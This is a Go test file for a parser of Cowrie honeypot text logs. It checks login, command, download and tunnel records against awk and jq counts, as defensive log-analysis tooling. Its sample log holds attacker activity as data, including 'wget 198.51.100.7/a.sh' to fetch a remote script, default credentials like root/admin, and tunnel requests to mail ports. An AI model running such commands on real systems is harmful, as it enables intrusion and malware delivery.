package parse

import (
	"bytes"
	"compress/gzip"
	"errors"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

const cowrieTextSample = `2018-06-16T00:00:15.926477+0000 [cowrie.ssh.factory.CowrieSSHFactory] New connection: 89.39.105.84:20571 (172.17.0.3:2222) [session: 381cb24b2116]
2018-06-16T00:00:15.962265+0000 [HoneyPotSSHTransport,13943,89.39.105.84] Remote SSH version: SSH-2.0-paramiko_2.1.1
2018-06-16T00:00:16.208239+0000 [SSHService 'ssh-userauth' on HoneyPotSSHTransport,13943,89.39.105.84] login attempt [root/admin] succeeded
2018-06-16T00:00:16.3+0000 [SSHService 'ssh-userauth' on HoneyPotSSHTransport,13944,2001:db8::7] login attempt [/ro/ot] failed
2018-06-16T00:00:17+0000 [CowrieTelnetTransport,5,10.0.0.9] login attempt [b'admin'/b'a/b]c'] succeeded
2018-06-16T00:00:18+0000 [SSHChannel session (0) on SSHService 'ssh-connection' on HoneyPotSSHTransport,13943,89.39.105.84] CMD: cd /tmp; wget 198.51.100.7/a.sh
2018-06-16T00:00:19+0000 [HoneyPotSSHTransport,13945,10.0.0.8] CMD: uname -a
2018-06-16T00:00:20+0000 [HTTP11ClientProtocol,client] Downloaded URL (http://198.51.100.7/a.sh) with SHA-256 0b41ef to var/lib/cowrie/downloads/0b41ef
2018-06-16T00:00:21+0000 [HTTPPageDownloader,client] Downloaded URL (b'http://elsewhere.example/x') with SHA-256 77aa to dl/77aa
2018-06-16T00:00:22+0000 [SSHService 'ssh-connection' on HoneyPotSSHTransport,13943,89.39.105.84] direct-tcp connection request to 2a00:1450:4001::1b:587 from 127.0.0.1:22
2018-06-16T00:00:23+0000 [SSHService 'ssh-connection' on HoneyPotSSHTransport,13943,89.39.105.84] direct-tcp connection request to mail.example:25 from 127.0.0.1:22
2018-06-16T00:00:24+0000 [HoneyPotSSHTransport,13943,89.39.105.84] Disconnecting with error, code 8
	reason: bad version 2.0_CoreLab
2018-06-16T00:00:25+0000 [-] unauthorized login:
2018-06-16T00:00:26+0000 [HoneyPotSSHTransport,13943,89.39.105.84] CMD: 
2018-06-16T00:00:27+0000 [HoneyPotSSHTransport,13943,89.39.105.84] direct-tcp connection request to mail.example:http from 127.0.0.1:22
2018-13-16T00:00:28+0000 [HoneyPotSSHTransport,13943,89.39.105.84] CMD: ls
a line of something else
Dec  8 06:28:44 ip.compute.internal cowrie[2806]: 2020-12-08T06:28:44+0000 [CowrieTelnetTransport,7,192.0.2.1] CMD: busybox
`

// Each kind of message gives the record its JSON event gives: logins
// (Python 3's bytes unwrapped, the name up to the first slash), commands,
// downloads (the source taken from the command that fetched it), client
// versions and tunnels; the bookkeeping messages and a message's
// continuation are passed over, a line that is no message skipped.
func TestCowrieTextLines(t *testing.T) {
	out := parseText(t, "cowrie-text", []byte(cowrieTextSample))
	at := func(line int64, tm, client string, set func(*gotLogon)) gotLogon {
		l := gotLogon{Line: line, Time: micro(tm), Client: client}
		set(&l)
		return l
	}
	attacker := "89.39.105.84"
	checkAt(t, out.logon, []gotLogon{
		at(2, "2018-06-16T00:00:15.962265Z", attacker, func(l *gotLogon) { l.Software, l.Type = "SSH-2.0-paramiko_2.1.1", "ssh" }),
		at(3, "2018-06-16T00:00:16.208239Z", attacker, func(l *gotLogon) {
			l.Account, l.Password, l.Auth, l.Result, l.Type = "root", "admin", "password", "success", "ssh"
		}),
		at(4, "2018-06-16T00:00:16.3Z", "2001:db8::7", func(l *gotLogon) {
			l.Account, l.Password, l.Auth, l.Result, l.Type = "", "ro/ot", "password", "failure", "ssh"
		}),
		at(5, "2018-06-16T00:00:17Z", "10.0.0.9", func(l *gotLogon) {
			l.Account, l.Password, l.Auth, l.Result, l.Type = "admin", "a/b]c", "password", "success", "telnet"
		}),
		at(6, "2018-06-16T00:00:18Z", attacker, func(l *gotLogon) { l.Command, l.Type = "cd /tmp; wget 198.51.100.7/a.sh", "ssh" }),
		at(7, "2018-06-16T00:00:19Z", "10.0.0.8", func(l *gotLogon) { l.Command, l.Type = "uname -a", "ssh" }),
		at(8, "2018-06-16T00:00:20Z", attacker, func(l *gotLogon) { l.URL, l.Hash = "http://198.51.100.7/a.sh", "0b41ef" }),
		at(9, "2018-06-16T00:00:21Z", "", func(l *gotLogon) { l.URL, l.Hash = "http://elsewhere.example/x", "77aa" }),
		at(10, "2018-06-16T00:00:22Z", attacker, func(l *gotLogon) { l.URL, l.Type = "tcp://[2a00:1450:4001::1b]:587", "ssh" }),
		at(11, "2018-06-16T00:00:23Z", attacker, func(l *gotLogon) { l.URL, l.Type = "tcp://mail.example:25", "ssh" }),
		at(19, "2020-12-08T06:28:44Z", "192.0.2.1", func(l *gotLogon) { l.Command, l.Type, l.Target = "busybox", "telnet", "ip.compute.internal" }),
	})
	if len(out.logon) != 11 {
		t.Errorf("%d records, want 11: %+v", len(out.logon), out.logon)
	}
	want := []string{"17 bad timestamp", "18 no Cowrie message"}
	if got := out.skipList(); len(got) != len(want) || got[0] != want[0] || got[1] != want[1] {
		t.Errorf("skips %q, want %q", got, want)
	}
}

// Syslog wraps Cowrie's lines with either of its stamps (syslogStamp); the
// time is Cowrie's own, the host the wrapper's.
func TestCowrieTextWrappedStamps(t *testing.T) {
	text := `2020-12-08T07:28:45.5+01:00 ip.compute.internal cowrie[2806]: 2020-12-08T06:28:45+0000 [CowrieTelnetTransport,7,192.0.2.1] CMD: id
Dec 8 06:28:46 ip.compute.internal cowrie[2806]: 2020-12-08T06:28:46+0000 [CowrieTelnetTransport,7,192.0.2.1] CMD: w
`
	out := parseText(t, "cowrie-text", []byte(text))
	cmd := func(line int64, tm, command string) gotLogon {
		return gotLogon{Line: line, Time: micro(tm), Client: "192.0.2.1", Command: command, Type: "telnet", Target: "ip.compute.internal"}
	}
	checkAt(t, out.logon, []gotLogon{cmd(1, "2020-12-08T06:28:45Z", "id"), cmd(2, "2020-12-08T06:28:46Z", "w")})
	if len(out.logon) != 2 || len(out.skips) != 0 {
		t.Errorf("records %+v, skips %+v", out.logon, out.skips)
	}
}

// A message whose line is read again to resume still tells whose a later
// download is.
func TestCowrieTextReplay(t *testing.T) {
	lines := bytes.Split([]byte(cowrieTextSample), []byte("\n"))
	p := &cowrieTextParser{}
	out := &gotOut{}
	p.Line(lines[5], 6, 0, true, out)
	p.Line(lines[7], 8, 0, false, out)
	if len(out.logon) != 1 || out.logon[0].Client != "89.39.105.84" {
		t.Errorf("records %+v", out.logon)
	}
}

// awkCowrieText counts, per Cowrie event, the messages of the text log
// that stand for it.
var awkCowrieText = map[string]string{
	"cowrie.login.success":         `/\] login attempt \[.*\] succeeded$/`,
	"cowrie.login.failed":          `/\] login attempt \[.*\] failed$/`,
	"cowrie.command.input":         `/\] CMD: ./`,
	"cowrie.session.file_download": `/\] Downloaded URL \(.*\) with SHA-256 /`,
	"cowrie.client.version":        `/\] Remote SSH version: ./`,
	"cowrie.direct-tcpip.request":  `/\] direct-tcp connection request to .*:[0-9]+ from /`,
}

// On the samples, each kind of message is counted as awk counts it; the
// syslog-wrapped ones hold only new connections, passed over.
func TestCowrieTextSamples(t *testing.T) {
	for _, c := range []struct {
		file string
		want map[string]int64 // what awk is expected to count, to see the sample is the one meant
	}{
		{"honeypot/cowrie.log.2018-06-16", map[string]int64{"cowrie.login.success": 334, "cowrie.login.failed": 245,
			"cowrie.command.input": 8, "cowrie.client.version": 589, "cowrie.direct-tcpip.request": 2411}},
		{"honeypot/crowdsec_cowrie-logs.log", map[string]int64{}},
		{"honeypot/crowdsec_cowrie_telnet-bf.log", map[string]int64{}},
	} {
		t.Run(c.file, func(t *testing.T) {
			data := detectedSample(t, c.file, "cowrie-text")
			var all []string
			for _, f := range Formats() {
				all = append(all, f.Name)
			}
			if got := detectedBy(data, all...); !slices.Equal(got, []string{"cowrie-text"}) {
				t.Errorf("detected by %v", got)
			}
			out := parseText(t, "cowrie-text", data)
			got := map[string]int64{}
			for _, r := range out.logon {
				got[cowrieEvent(r)]++
				if r.Client == "" {
					t.Fatalf("record %+v", r)
				}
			}
			for _, ev := range cowrieEvents {
				awk := toolCount(t, data, "awk", awkCowrieText[ev]+` {n++} END {print n+0}`)
				if got[ev] != awk || awk != c.want[ev] {
					t.Errorf("%s: %d, awk counts %d, want %d", ev, got[ev], awk, c.want[ev])
				}
			}
			if len(out.skips) > 0 {
				t.Errorf("skips %q", out.skipList())
			}
		})
	}
}

// A message is read without allocating; a download's source comes from
// the ring of recent commands, whose buffers are reused.
func TestCowrieTextNoAllocs(t *testing.T) {
	noAllocs(t, &cowrieTextParser{}, bytes.Split([]byte(cowrieTextSample), []byte("\n")))
}

// jqCowrieText writes a Cowrie JSON log as the text log Cowrie writes
// beside it, a line for a line: time, system and message. An event whose
// message the text form cannot carry whole (one of several lines; a
// download told as "Saved redir contents", without its URL) or that is
// no JSON becomes a tab-led line, which is passed over.
const jqCowrieText = `fromjson? // {} | if (.message | type) == "string" and (.message | test("\n|^Saved redir") | not)
	then "\(.timestamp) [\(.system // "-")] \(.message)" else "\t" end`

// The JSON samples, written by jq as the text log of the same events, give
// the same records: the text log's parser and the JSON log's differ only
// in the sensor the text lacks. A download's source, absent from its text
// line, is found from the command that fetched it.
func TestCowrieTextAsJSON(t *testing.T) {
	for _, c := range []struct {
		file      string
		downloads int // the samples' one download, told from the JSON's system null, thus without its source
	}{{"honeypot/cowrie.json.2018-06-01", 0}, {"honeypot/scriptzteam_cowrie.json", 1}} {
		t.Run(c.file, func(t *testing.T) {
			data := sample(t, c.file)
			text := toolOutput(t, data, "jq", "-rR", jqCowrieText)
			lines := bytes.Split(text, []byte("\n"))
			fromJSON, fromText := parseText(t, "cowrie-json", data), parseText(t, "cowrie-text", text)
			byLine := map[int64]gotLogon{}
			for _, r := range fromText.logon {
				byLine[r.Line] = r
			}
			same, passed, downloads := 0, 0, 0
			for _, want := range fromJSON.logon {
				got, ok := byLine[want.Line]
				switch {
				case !ok && bytes.Equal(lines[want.Line-1], []byte("\t")):
					passed++
					continue
				case !ok:
					t.Fatalf("line %d: no record for %+v", want.Line, want)
				}
				delete(byLine, want.Line)
				// The text has no sensor, nor the algorithms a client
				// offered (its HASSH).
				got.Offset, want.Offset, want.Target, want.HASSH = 0, 0, "", ""
				if got != want {
					t.Errorf("line %d:\n got %+v\nwant %+v", want.Line, got, want)
				}
				same++
				if cowrieEvent(want) == "cowrie.session.file_download" {
					downloads++
				}
			}
			if len(byLine) > 0 || same == 0 || downloads != c.downloads {
				t.Errorf("%d records of the text alone, %d the same, %d downloads", len(byLine), same, downloads)
			}
			t.Logf("%d records the same, %d downloads among them; %d events the text cannot carry", same, downloads, passed)
		})
	}
}

// Of all the samples, cowrie-text takes Cowrie's text logs alone; the
// head of each (gunzipped) is what detection sees.
func TestCowrieTextDetectsNoOtherSample(t *testing.T) {
	root := samplePath(t, ".")
	f, _ := ByName("cowrie-text")
	var took []string
	err := filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		head, err := sampleHead(p)
		if err != nil {
			return err
		}
		if f.Detect(head) {
			rel, _ := filepath.Rel(root, p)
			took = append(took, rel)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"honeypot/cowrie.log.2018-06-16", "honeypot/crowdsec_cowrie-logs.log", "honeypot/crowdsec_cowrie_telnet-bf.log"}
	if !slices.Equal(took, want) {
		t.Errorf("cowrie-text takes %q, want %q", took, want)
	}
}

// sampleHead is the first HeadSize bytes of a file, gunzipped when it is
// gzip.
func sampleHead(path string) ([]byte, error) {
	fh, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer fh.Close()
	var r io.Reader = fh
	if strings.HasSuffix(path, ".gz") {
		zr, err := gzip.NewReader(fh)
		if err != nil {
			return nil, nil // not gzip after all: no head a format would take
		}
		r = zr
	}
	head, err := io.ReadAll(io.LimitReader(r, HeadSize))
	if err != nil && !errors.Is(err, io.ErrUnexpectedEOF) {
		return nil, err
	}
	return head, nil
}
